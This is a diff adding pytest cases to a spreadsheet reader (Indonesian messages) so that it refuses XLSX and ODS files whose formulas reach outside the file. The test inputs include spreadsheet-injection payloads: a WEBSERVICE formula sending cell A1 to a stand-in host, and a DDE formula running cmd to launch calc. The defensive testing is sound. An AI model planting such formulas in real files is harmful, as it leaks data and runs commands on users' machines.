@@ -106,6 +106,11 @@ def encrypted_part():
     return bytes(raw)
 
 
+def with_formula(text, value):
+    return with_sheet(b'<row r="1"><c r="A1"><f>' + text + b"</f>" + value + b"</c></row>")
+
+
+OUTSIDE = "berkas memuat rumus yang mengambil data dari luar berkas"
 ENTITY = XML + b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet ' + MAIN + b"/>"
 SHARED = XML + b"<sst " + MAIN + b"><si><t>" + b"k" * 3_000_000 + b"</t></si></sst>"
 MANY = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (n, n) for n in range(1, 99))
@@ -203,6 +208,23 @@ REFUSED = {
     ),
     "kutip CSV": ("a.csv", b'"' + b"a" * 200_000, "CSV tidak terbaca pada baris 1"),
     "nol dalam CSV": ("a.csv", b"a,\0b\n", "berkas ini bukan teks CSV"),
+    "rumus ke luar": (
+        "a.xlsx", with_formula(b'WEBSERVICE("https://x.invalid/"&amp;A1)', b"<v>1</v>"), OUTSIDE,
+    ),
+    "rumus DDE": ("a.xlsx", with_formula(b"cmd|' /C calc'!A0", b"<v>1</v>"), OUTSIDE),
+    "rumus berkas lain": ("a.xlsx", with_formula(b"[1]Lembar!A1", b"<v>1</v>"), OUTSIDE),
+    "rumus tautan": (
+        "a.xlsx", with_formula(b"HYPERLINK(&quot;http://x.invalid&quot;)", b"<v>1</v>"), OUTSIDE,
+    ),
+    "rumus ODS ke luar": (
+        "a.ods",
+        ods(b'<table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;x&quot;)" '
+            b'office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'),
+        OUTSIDE,
+    ),
+    "rumus belum dihitung": (
+        "a.xlsx", with_formula(b"SUM(A1:A2)", b""), "berkas memuat rumus yang belum dihitung",
+    ),
     "hanya lembar kosong": ("a.xlsx", workbook(Kosong=[]), "tidak ada lembar yang berisi"),
 }  # fmt: skip
 
@@ -214,6 +236,26 @@ def test_what_cannot_be_trusted_is_refused_with_a_remedy(name):
     assert isinstance(found, Refused)
     assert (found.file, found.message) == (file, message)
     assert found.remedy
+
+
+@pytest.mark.parametrize(
+    "text",
+    [b"SUM(A1:A9)", b"ROW()-3", b"Tabel1[Jumlah]", b"'Lembar lain'!B2*2", b'IF(A1&gt;1,"ya","")'],
+)
+def test_a_clerks_own_sums_are_read_by_their_stored_value(text):
+    found = read("a.xlsx", with_formula(text, b"<v>7</v>"))
+    assert isinstance(found, Sheet)
+    assert found.rows == ((7,),)
+
+
+def test_the_sums_of_an_ods_sheet_are_read_by_their_stored_value():
+    cell = (
+        b'<table:table-cell table:formula="of:=SUM([.A1:.A2];[$Lain.B1])" '
+        b'office:value-type="float" office:value="7"><text:p>7</text:p></table:table-cell>'
+    )
+    found = read("a.ods", ods(b"<table:table-row>" + cell + b"</table:table-row>"))
+    assert isinstance(found, Sheet)
+    assert found.rows == ((7,),)
 
 
 def test_cells_are_what_the_file_means():
